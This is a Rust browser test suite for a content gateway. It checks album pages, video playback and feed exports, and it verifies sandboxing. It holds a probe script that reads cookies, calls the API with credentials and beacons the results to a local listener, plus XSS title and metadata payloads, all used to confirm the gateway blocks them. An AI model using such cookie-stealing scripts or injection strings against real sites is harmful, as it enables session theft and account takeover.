//! The gateway in a real browser (Debian's headless Chromium, driven over DevTools):
//! Journey 1 of DESIGN.md (serve, publish an album, the pages show it, the video plays and
//! seeks, the image renders, the exports validate), published HTML or SVG that must not
//! reach the gateway's cookies or API, and hostile titles and metadata that stay text.

use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::{Value, json};
use tests::binary::workspace_root;
use tests::browser::{Browser, artifact_path};
use tests::commands::new_identity;
use tests::node::{NodeOptions, NodeProcess, http_get, publish, test_root, wait_for};

fn fixture(name: &str) -> PathBuf {
    workspace_root().join("tests/fixtures").join(name)
}

/// A node with one identity, "alice".
fn start_node(root: &Path) -> (PathBuf, NodeProcess) {
    let data = root.join("data");
    new_identity(&data, "alice");
    let node = NodeProcess::start(&data, &NodeOptions::default());
    (data, node)
}

/// Runs `tests/python/NAME` with the `python3` on PATH (where pip puts feedparser and
/// jsonschema); panics with its output unless it exits 0.
fn run_pip_python(name: &str, args: &[&str]) -> String {
    let script = workspace_root().join("tests/python").join(name);
    let (ok, stdout, stderr) = tests::node::run_with_limit(
        std::process::Command::new("python3")
            .arg(&script)
            .args(args),
        Duration::from_secs(60),
    );
    // scripts/test installs the packages; without them this fails rather than passing.
    assert!(ok, "{name}: {stdout}{stderr}");
    stdout
}

#[test]
fn journey_1_a_browser_shows_the_published_album_plays_its_video_and_renders_its_image() {
    let (_guard, root) = test_root();
    let (data, node) = start_node(&root);
    let url = node.info.public_url.clone();
    let album = root.join("album");
    std::fs::create_dir_all(&album).unwrap();
    for name in ["clip.mp4", "poster.png"] {
        std::fs::copy(fixture(name), album.join(name)).unwrap();
    }
    let notes = "Liner notes: recorded live at the hall.\n";
    std::fs::write(album.join("notes.txt"), notes).unwrap();
    let published = publish(
        &data,
        &album,
        "Album",
        &["--description", "Live at the hall"],
    );
    let identity = published["identity"].as_str().unwrap().to_owned();
    let ih = published["infohash"].as_str().unwrap().to_owned();

    let mut browser = Browser::start();
    browser.call("Network.enable", json!({}));

    // The feed page lists the entry and advertises the exports.
    browser.navigate(&format!("{url}/{identity}/main"));
    assert_eq!(browser.evaluate("document.title"), "main · swarmfeed");
    assert_eq!(
        browser.evaluate("document.querySelector('h1').textContent"),
        "main"
    );
    let verified = browser.evaluate("document.querySelector('main .verified').textContent");
    assert!(
        verified.as_str().unwrap().contains("1 entry verified"),
        "{verified}"
    );
    let entry_links = browser.evaluate(
        "[...document.querySelectorAll('main a')].filter(a => a.textContent.trim() === 'Album')\
         .map(a => a.getAttribute('href'))",
    );
    assert_eq!(entry_links, json!([format!("/{identity}/main/1")]));
    let alternates = browser.evaluate(
        "[...document.querySelectorAll('link[rel=alternate]')].map(l => [l.type, l.href])",
    );
    assert_eq!(
        alternates,
        json!([
            [
                "application/rss+xml",
                format!("{url}/{identity}/main/feed.rss")
            ],
            [
                "application/atom+xml",
                format!("{url}/{identity}/main/feed.atom")
            ],
            [
                "application/feed+json",
                format!("{url}/{identity}/main/feed.json")
            ],
        ]),
    );
    let feed_shot = artifact_path("gateway_browser/journey-1-feed.png");
    browser.screenshot(&feed_shot);
    eprintln!("screenshot: {}", feed_shot.display());

    // The entry page, reached by the feed page's own link.
    let entry_url = browser.evaluate(
        "[...document.querySelectorAll('main a')].find(a => a.textContent.trim() === 'Album').href",
    );
    assert_eq!(entry_url, json!(published["entry_url"]));
    browser.navigate(entry_url.as_str().unwrap());
    assert_eq!(browser.evaluate("document.title"), "Album · swarmfeed");
    assert_eq!(
        browser.evaluate("document.querySelector('h1').textContent"),
        "Album"
    );
    let rows = browser.evaluate(
        "[...document.querySelectorAll('tr')].filter(tr => tr.querySelector('a[href^=\"/files/\"]'))\
         .map(tr => [...tr.cells].map(c => c.textContent.trim()))",
    );
    let rows = rows.as_array().unwrap();
    let names: Vec<&str> = rows.iter().map(|r| r[0].as_str().unwrap()).collect();
    assert_eq!(names, ["clip.mp4", "notes.txt", "poster.png"], "{rows:?}");
    let types: Vec<&str> = rows.iter().map(|r| r[2].as_str().unwrap()).collect();
    assert_eq!(types, ["video/mp4", "text/plain", "image/png"]);
    assert!(rows.iter().all(|r| !r[1].as_str().unwrap().is_empty()));
    let description = browser.evaluate("document.body.innerText.includes('Live at the hall')");
    assert_eq!(description, true, "the description is shown");

    // Every file link serves the published bytes.
    let file_links = browser.evaluate(
        "[...document.querySelectorAll('td a[href^=\"/files/\"]')].map(a => [a.textContent, a.href])",
    );
    for pair in file_links.as_array().unwrap() {
        let (name, href) = (pair[0].as_str().unwrap(), pair[1].as_str().unwrap());
        assert_eq!(href, format!("{url}/files/{ih}/{name}"));
        let served = http_get(href).unwrap_or_else(|| panic!("{href} does not answer 200"));
        assert!(served == std::fs::read(album.join(name)).unwrap(), "{name}");
    }
    // Magnet and .torrent links.
    let links = browser.evaluate(
        "Object.fromEntries([...document.querySelectorAll('ul.links a')].map(a => [a.textContent, a.href]))",
    );
    let magnet = links["Magnet link"].as_str().unwrap();
    assert!(
        magnet.starts_with(&format!("magnet:?xt=urn:btih:{ih}&")),
        "{magnet}"
    );
    assert!(magnet.contains("&dn=album"), "{magnet}");
    let ws = format!("{url}/ws/{ih}/");
    assert!(
        magnet.contains(&format!("&ws={}", percent_encode(&ws))),
        "{magnet}"
    );
    for (text, path) in [
        (".torrent", format!("/webseed-torrents/{ih}.torrent")),
        (".torrent as published", format!("/torrents/{ih}.torrent")),
    ] {
        let href = links[text].as_str().unwrap();
        assert_eq!(href, format!("{url}{path}"));
        let bytes = http_get(href).unwrap_or_else(|| panic!("{href} does not answer 200"));
        let metainfo = feeds::Metainfo::decode(&bytes).unwrap();
        assert_eq!(metainfo.infohash().to_string(), ih, "{href}");
    }

    // The text preview.
    let preview = browser.evaluate("document.querySelector('figure pre').textContent");
    assert_eq!(preview, notes);

    // The image preview renders.
    let size = browser.wait_for_value(
        Duration::from_secs(20),
        "the image preview to load",
        "(() => { const i = document.querySelector('figure img'); \
         return i && i.complete && i.naturalWidth > 0 ? [i.naturalWidth, i.naturalHeight] : null })()",
    );
    assert_eq!(size, json!([64, 48]));

    // The video reports its duration, seeks to the middle and has the frame there.
    let duration = browser.wait_for_value(
        Duration::from_secs(20),
        "the video's metadata",
        "(() => { const v = document.querySelector('figure video'); \
         return v && v.readyState >= 1 && isFinite(v.duration) ? v.duration : null })()",
    );
    let duration = duration.as_f64().unwrap();
    assert!((duration - 4.0).abs() < 0.15, "duration {duration}");
    assert_eq!(
        browser.evaluate(
            "(() => { const v = document.querySelector('figure video'); return [v.videoWidth, v.videoHeight] })()"
        ),
        json!([160, 120])
    );
    browser.evaluate(
        "(() => { const v = document.querySelector('figure video'); v.currentTime = v.duration / 2; return true })()",
    );
    let seeked = browser.wait_for_value(
        Duration::from_secs(20),
        "the video to seek to the middle",
        "(() => { const v = document.querySelector('figure video'); \
         return !v.seeking && v.readyState >= 2 ? [v.currentTime, v.readyState] : null })()",
    );
    let at = seeked[0].as_f64().unwrap();
    assert!((at - duration / 2.0).abs() < 0.2, "seeked to {at}");
    // The decoded frame there is the test pattern (lit pixels), not a blank.
    let lit = browser.evaluate(
        "(() => { const v = document.querySelector('figure video'); const c = document.createElement('canvas'); \
         c.width = v.videoWidth; c.height = v.videoHeight; const g = c.getContext('2d'); g.drawImage(v, 0, 0); \
         const d = g.getImageData(0, 0, c.width, c.height).data; let lit = 0; \
         for (let i = 0; i < d.length; i += 4) if (d[i] + d[i + 1] + d[i + 2] > 90) lit++; \
         return lit / (d.length / 4) })()",
    );
    assert!(
        lit.as_f64().unwrap() > 0.5,
        "decoded frame mostly dark: {lit}"
    );
    // The browser fetched the video with range requests.
    browser.drain_events(Duration::from_millis(200));
    let video_statuses: Vec<u64> = browser
        .events
        .iter()
        .filter(|e| e["method"] == "Network.responseReceived")
        .filter(|e| {
            e["params"]["response"]["url"]
                .as_str()
                .is_some_and(|u| u.ends_with("/clip.mp4"))
        })
        .filter_map(|e| e["params"]["response"]["status"].as_u64())
        .collect();
    assert!(
        video_statuses.contains(&206),
        "no partial answer for the video: {video_statuses:?}"
    );
    let entry_shot = artifact_path("gateway_browser/journey-1-entry.png");
    browser.screenshot(&entry_shot);
    eprintln!("screenshot: {}", entry_shot.display());
    drop(browser);

    // The feed's exports validate: RSS and Atom with feedparser, JSON Feed against the 1.1
    // schema.
    let report = run_pip_python("gateway_feeds.py", &[&url, &identity, "main", "Album"]);
    eprintln!("{report}");
    let schema = fixture("jsonfeed-1.1.schema.json");
    let report = run_pip_python(
        "jsonfeed_schema.py",
        &[
            &format!("{url}/{identity}/main/feed.json"),
            schema.to_str().unwrap(),
        ],
    );
    eprintln!("{report}");
}

/// Percent-encodes everything but unreserved characters, as magnet parameters are.
fn percent_encode(text: &str) -> String {
    text.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
                (b as char).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}

/// A listener of the test's own on 127.0.0.1 that records the path of every request and
/// answers `/probe.html` with the probe page (no CSP), anything else with 204.
struct Listener {
    url: String,
    requests: Arc<Mutex<Vec<String>>>,
    stop: Arc<AtomicBool>,
}

impl Listener {
    fn start(probe: String) -> Listener {
        let socket = TcpListener::bind("127.0.0.1:0").unwrap();
        socket.set_nonblocking(true).unwrap();
        let url = format!("http://{}", socket.local_addr().unwrap());
        let requests = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (seen, stopped) = (requests.clone(), stop.clone());
        std::thread::spawn(move || {
            while !stopped.load(Ordering::Relaxed) {
                match socket.accept() {
                    Ok((stream, _)) => answer(stream, &probe, &seen),
                    Err(_) => std::thread::sleep(Duration::from_millis(20)),
                }
            }
        });
        Listener {
            url,
            requests,
            stop,
        }
    }

    fn requests(&self) -> Vec<String> {
        self.requests.lock().unwrap().clone()
    }

    fn reports(&self) -> Vec<Value> {
        self.requests()
            .iter()
            .filter_map(|path| path.strip_prefix("/report?"))
            .map(|query| serde_json::from_str(&percent_decode(query)).unwrap())
            .collect()
    }
}

impl Drop for Listener {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
    }
}

fn answer(stream: TcpStream, probe: &str, seen: &Mutex<Vec<String>>) {
    stream.set_nonblocking(false).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    let mut reader = BufReader::new(stream);
    let mut line = String::new();
    if reader.read_line(&mut line).is_err() {
        return;
    }
    loop {
        let mut header = String::new();
        match reader.read_line(&mut header) {
            Ok(0) | Err(_) => break,
            Ok(_) if header == "\r\n" => break,
            Ok(_) => {}
        }
    }
    let path = line.split(' ').nth(1).unwrap_or("").to_owned();
    seen.lock().unwrap().push(path.clone());
    let mut stream = reader.into_inner();
    let reply = if path == "/probe.html" {
        format!(
            "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{probe}",
            probe.len()
        )
    } else {
        "HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n".to_owned()
    };
    let _ = stream.write_all(reply.as_bytes());
}

fn percent_decode(text: &str) -> String {
    let bytes = text.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'%' && i + 2 < bytes.len() {
            out.push(u8::from_str_radix(&text[i + 1..i + 3], 16).unwrap());
            i += 3;
        } else {
            out.push(bytes[i]);
            i += 1;
        }
    }
    String::from_utf8(out).unwrap()
}

/// Script that reads `document.cookie` and calls the gateway's API, then reports what it
/// saw to the test's listener and in the page's title.
fn probe_script(api: &str, listener: &str) -> String {
    format!(
        "(async () => {{\n\
           const seen = {{origin: String(self.origin)}};\n\
           try {{ seen.cookie = document.cookie; }} catch (e) {{ seen.cookie = 'refused: ' + e.name; }}\n\
           try {{\n\
             const answer = await fetch('{api}', {{credentials: 'include'}});\n\
             seen.api = answer.status + ' ' + (await answer.text()).slice(0, 400);\n\
           }} catch (e) {{ seen.api = 'refused: ' + e.name; }}\n\
           document.title = 'probe ran';\n\
           new Image().src = '{listener}/report?' + encodeURIComponent(JSON.stringify(seen));\n\
         }})();"
    )
}

#[test]
fn published_html_and_svg_opened_through_the_gateway_can_neither_read_its_cookies_nor_call_its_api()
{
    let (_guard, root) = test_root();
    let (data, node) = start_node(&root);
    let url = node.info.public_url.clone();
    // An entry whose API answer the probe would try to read.
    let first = publish(&data, &fixture("poster.png"), "Poster", &[]);
    let identity = first["identity"].as_str().unwrap().to_owned();
    let api = format!("{url}/api/v1/entries/{identity}/main/1");
    let secret = "sandbox-secret-3141";

    // The probe page. Its image from the listener shows it was rendered, script or not.
    let listener_probe = |listener: &str| {
        format!(
            "<!doctype html><html><head><meta charset=\"utf-8\"><title>probe: not run</title></head>\
             <body><p id=\"marker\">sandbox probe</p><img src=\"{listener}/rendered.png\" alt=\"\">\
             <script>{}</script></body></html>",
            probe_script(&api, listener)
        )
    };
    let listener = Listener::start(String::new());
    let html = listener_probe(&listener.url);
    // The control: the same page served by a second listener of the test (another origin,
    // no CSP) proves that the probe runs, reads cookies and reports in this browser.
    let control = Listener::start(html.clone());
    let svg = format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"100\" height=\"100\">\
         <image href=\"{}/rendered-svg.png\" width=\"1\" height=\"1\"/>\
         <script>{}</script></svg>",
        listener.url,
        probe_script(&api, &listener.url)
    );
    let dir = root.join("site");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("page.html"), &html).unwrap();
    std::fs::write(dir.join("drawing.svg"), &svg).unwrap();
    let site = publish(&data, &dir, "Site", &[]);
    let ih = site["infohash"].as_str().unwrap().to_owned();

    let mut browser = Browser::start();
    // A session cookie of the gateway's origin (cookies are per host, not per port: the
    // listeners on 127.0.0.1 see it too, which the control relies on).
    browser.set_cookie(&format!("{url}/"), "session", secret);

    browser.navigate(&format!("{}/probe.html", control.url));
    let report = wait_for(
        Duration::from_secs(20),
        "the control probe to report",
        || listener.reports().into_iter().next(),
    );
    assert_eq!(browser.evaluate("document.title"), "probe ran");
    assert_eq!(
        report["cookie"],
        format!("session={secret}"),
        "the probe reads cookies where script may run: {report}"
    );
    assert!(
        listener.requests().contains(&"/rendered.png".to_owned()),
        "{:?}",
        listener.requests()
    );
    listener.requests.lock().unwrap().clear();

    for path in [
        format!("/files/{ih}/page.html"),
        format!("/ws/{ih}/site/page.html"),
        format!("/files/{ih}/drawing.svg"),
    ] {
        browser.navigate(&format!("{url}{path}"));
        let marker = if path.ends_with(".svg") {
            "/rendered-svg.png"
        } else {
            "/rendered.png"
        };
        // The document rendered (it loaded its image from the listener)...
        wait_for(
            Duration::from_secs(20),
            &format!("{path} to render"),
            || {
                listener
                    .requests()
                    .contains(&marker.to_owned())
                    .then_some(())
            },
        );
        // ... and its script never ran: no report within the time the control needed many
        // times over, and the title is the document's own.
        browser.drain_events(Duration::from_millis(1500));
        let reports = listener.reports();
        assert!(
            reports.is_empty(),
            "{path}: the published file's script ran and saw {reports:?}"
        );
        for request in listener.requests() {
            assert!(!request.contains("sandbox-secret"), "{path}: {request}");
            assert!(!request.contains("signed_by"), "{path}: {request}");
        }
        if !path.ends_with(".svg") {
            assert_eq!(
                browser.evaluate("document.title"),
                "probe: not run",
                "{path}"
            );
        }
        // The document lives in an opaque origin: even script run by DevTools in it cannot
        // read the gateway's cookies.
        assert_eq!(browser.evaluate("String(self.origin)"), "null", "{path}");
        let cookie = browser.evaluate(
            "(() => { try { return document.cookie } catch (e) { return 'refused: ' + e.name } })()",
        );
        assert_eq!(cookie, "refused: SecurityError", "{path}");
        listener.requests.lock().unwrap().clear();
    }
}

#[test]
fn untrusted_titles_and_metadata_stay_text_in_the_browser() {
    let (_guard, root) = test_root();
    let (data, node) = start_node(&root);
    let url = node.info.public_url.clone();
    let title = "<img src=x onerror=\"document.title='pwned'\"><script>document.title='pwned'</script>Mix & \"match\"";
    let meta = "<b>bold</b><iframe src=\"/\"></iframe>";
    let published = publish(
        &data,
        &fixture("poster.png"),
        title,
        &["--meta", &format!("note={meta}")],
    );
    let identity = published["identity"].as_str().unwrap().to_owned();

    let mut browser = Browser::start();
    browser.navigate(&format!("{url}/{identity}/main"));
    let listed = browser.evaluate(
        "[...document.querySelectorAll('main li a')].map(a => [a.textContent, a.children.length])",
    );
    assert_eq!(listed, json!([[title, 0]]));
    browser.navigate(published["entry_url"].as_str().unwrap());
    assert_eq!(
        browser.evaluate("document.title"),
        format!("{title} · swarmfeed")
    );
    let heading =
        browser.evaluate("(() => { const h = document.querySelector('h1'); return [h.textContent, h.children.length] })()");
    assert_eq!(heading, json!([title, 0]));
    let note = browser.evaluate(
        "[...document.querySelectorAll('tr')].filter(tr => tr.cells[0].textContent === 'note')\
         .map(tr => [tr.cells[1].textContent, tr.cells[1].children.length])",
    );
    assert_eq!(note, json!([[meta, 0]]));
    let active = browser.evaluate("document.querySelectorAll('script, iframe, [onerror]').length");
    assert_eq!(active, 0);
}
